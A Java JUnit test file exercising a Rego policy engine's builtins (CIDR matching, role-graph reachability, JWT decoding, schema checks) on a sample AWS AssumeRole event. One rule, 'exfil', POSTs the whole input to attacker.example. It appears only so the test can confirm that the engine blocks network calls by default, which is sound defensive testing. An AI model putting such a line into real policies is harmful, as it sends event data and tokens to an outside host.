package io.tripline.rego.builtins;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.tripline.rego.EvalOptions;
import io.tripline.rego.PreparedPolicy;
import io.tripline.rego.QueryResult;
import io.tripline.rego.Rego;
import io.tripline.rego.RegoException;
import io.tripline.rego.value.Value;
import io.tripline.rego.value.ValueJson;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Network, object, graph, JWT, schema and hashing builtins as an investigation policy calls them. */
class InvestigationBuiltinsInRegoTest {
  private static final String POLICY = """
      package investigate

      corporate := ["10.0.0.0/8", "2001:db8::/32"]

      from_corporate if net.cidr_contains(corporate[_], input.sourceIPAddress)

      matches := net.cidr_contains_matches(corporate, [input.sourceIPAddress])

      assumable := {"alice": {"role/dev"}, "role/dev": {"role/admin"}, "role/admin": set()}

      reach := graph.reachable(assumable, {"alice"})

      session_keys := sort([k | walk(input.requestParameters, [path, _]); count(path) == 1; k := path[0]])

      claims := io.jwt.decode(input.additionalEventData.token)[1]

      labelled := object.union(object.filter(input, ["eventName", "sourceIPAddress"]), {"severity": "high"})

      trimmed := json.remove(input, ["requestParameters/policyDocument", "additionalEventData"])

      schema := {"type": "object", "required": ["roleArn"], "properties": {"durationSeconds": {"type": "integer", "maximum": 3600}}}

      schema_errors := [e.error | some e in json.match_schema(input.requestParameters, schema)[1]]

      fingerprint := crypto.sha256(concat("|", [input.eventName, input.sourceIPAddress]))

      hours := [h | some h in numbers.range(0, 23); bits.and(h, 7) == 0]

      bad_cidr := net.cidr_contains("10.0.0.0/33", input.sourceIPAddress)

      exfil := http.send({"method": "POST", "url": "https://attacker.example/collect", "body": input})
      """;
  private static final String RECORD = """
      {"eventName": "AssumeRole", "sourceIPAddress": "10.20.30.40",
       "requestParameters": {"roleArn": "arn:aws:iam::123456789012:role/admin", "durationSeconds": 43200,
                             "policyDocument": "{}"},
       "additionalEventData": {"token": "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhbGljZSJ9.c2ln"}}
      """;

  private final PreparedPolicy policy = Rego.compile(Map.of("investigate.rego", POLICY), null);
  private final Value input = ValueJson.parseJson(RECORD);

  private String eval(String query) {
    QueryResult r = policy.evaluate(query, input);
    return r.isUndefined() ? "undefined" : ValueJson.write(r.results().get(0).expressions().get(0).value());
  }

  @Test
  void evaluatesBuiltinsInsideRules() {
    assertThat(eval("data.investigate.from_corporate")).isEqualTo("true");
    assertThat(eval("data.investigate.matches")).isEqualTo("[[0,0]]");
    assertThat(eval("data.investigate.reach")).isEqualTo("[\"alice\",\"role/admin\",\"role/dev\"]");
    assertThat(eval("data.investigate.session_keys")).isEqualTo("[\"durationSeconds\",\"policyDocument\",\"roleArn\"]");
    assertThat(eval("data.investigate.claims")).isEqualTo("{\"sub\":\"alice\"}");
    assertThat(eval("data.investigate.labelled"))
        .isEqualTo("{\"eventName\":\"AssumeRole\",\"severity\":\"high\",\"sourceIPAddress\":\"10.20.30.40\"}");
    assertThat(eval("data.investigate.trimmed")).isEqualTo("{\"eventName\":\"AssumeRole\","
        + "\"requestParameters\":{\"durationSeconds\":43200,\"roleArn\":\"arn:aws:iam::123456789012:role/admin\"},"
        + "\"sourceIPAddress\":\"10.20.30.40\"}");
    assertThat(eval("data.investigate.schema_errors")).isEqualTo("[\"durationSeconds: Must be less than or equal to 3600\"]");
    assertThat(eval("data.investigate.fingerprint")).hasSize(66);
    assertThat(eval("data.investigate.hours")).isEqualTo("[0,8,16]");
  }

  @Test
  void builtinErrorsAreUndefinedUnlessStrict() {
    assertThat(eval("data.investigate.bad_cidr")).isEqualTo("undefined");
    assertThatThrownBy(() -> policy.evaluate("data.investigate.bad_cidr", input, EvalOptions.DEFAULT.strict(true)))
        .isInstanceOfSatisfying(RegoException.class, e -> assertThat(e.code()).isEqualTo("eval_builtin_error"))
        .hasMessageContaining("net.cidr_contains: invalid CIDR address: 10.0.0.0/33");
  }

  @Test
  void networkBuiltinsAreRefusedByDefault() {
    assertThat(eval("data.investigate.exfil")).isEqualTo("undefined");
    assertThatThrownBy(() -> policy.evaluate("data.investigate.exfil", input, EvalOptions.DEFAULT.strict(true)))
        .hasMessageContaining("http.send: unallowed host: attacker.example");
  }
}
